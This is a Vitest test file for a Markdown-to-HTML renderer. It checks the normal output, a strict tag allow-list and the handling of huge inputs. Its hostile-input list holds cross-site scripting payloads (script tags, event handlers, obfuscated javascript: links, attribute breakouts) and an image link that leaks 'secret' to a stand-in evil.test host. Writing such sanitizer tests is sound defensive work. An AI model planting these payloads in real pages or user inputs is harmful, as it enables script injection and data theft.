import { expect, test } from "vitest";
import { renderMarkdown } from "./render-markdown.ts";

test("Markdown becomes elements", async () => {
  const html = await renderMarkdown(
    "# Tea\n\n- *boil* **water**\n\n| a | b |\n|---|---|\n| `1` | 2 |\n\n[more](https://a.test/?x=1&y=2)",
  );
  for (const piece of [
    "<h3>Tea</h3>",
    "<em>boil</em> <strong>water</strong>",
    "<td><code>1</code></td>",
    '<a href="https://a.test/?x=1&amp;y=2" rel="nofollow noopener noreferrer">more</a>',
  ])
    expect(html).toContain(piece);
});

const hostile = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "<svg/onload=alert(1)>",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](&#106;avascript:alert(1))",
  "[a](java&Tab;script:alert(1))",
  "[a](vbscript:x) [b](data:text/html,<script>alert(1)</script>)",
  "![x](https://evil.test/?d=secret)",
  '[a](https://a.test/"onmouseover="alert(1) "t\\"onx=")',
  '<https://a.test/"><script>alert(1)</script>',
  "`<script>`\n\n```html\n</code></pre><script>alert(1)</script>\n```",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  '| <b onclick=x> |\n|---|\n| "><script> |',
  "- [x] <iframe src=//evil.test>",
  "[x]: javascript:alert(1)\n\n[x]",
];
const allowed =
  /^<\/?(p|h3|ul|ol start="\d+"|ol|li|blockquote|strong|em|del|pre|pre class="plain"|code|hr|br|table|thead|tbody|tr|th|td|a|a href="(https?:\/\/|mailto:)[^"<>]*" rel="nofollow noopener noreferrer")>$/;

test.each(hostile)("S18, S21 %j runs nothing and loads nothing", async (text) => {
  const html = await renderMarkdown(text);
  const tags = html.match(/<[^>]*>/g) ?? [];
  expect(tags.filter((tag) => !allowed.test(tag))).toEqual([]);
  // nothing but the elements above begins with a mark
  expect(html.replaceAll(/<[^>]*>/g, "")).not.toContain("<");
});

test("S24 ten thousand quotes in each other, a line of five megabytes, and three million of them in one paragraph, are shown as they are", async () => {
  for (const text of ["> ".repeat(10_000), "*a ".repeat(1_500_000), "a\n".repeat(3_000_000)]) {
    const begun = performance.now();
    expect((await renderMarkdown(text)).length).toBeGreaterThan(text.length / 2);
    expect(performance.now() - begun).toBeLessThan(20_000);
  }
});
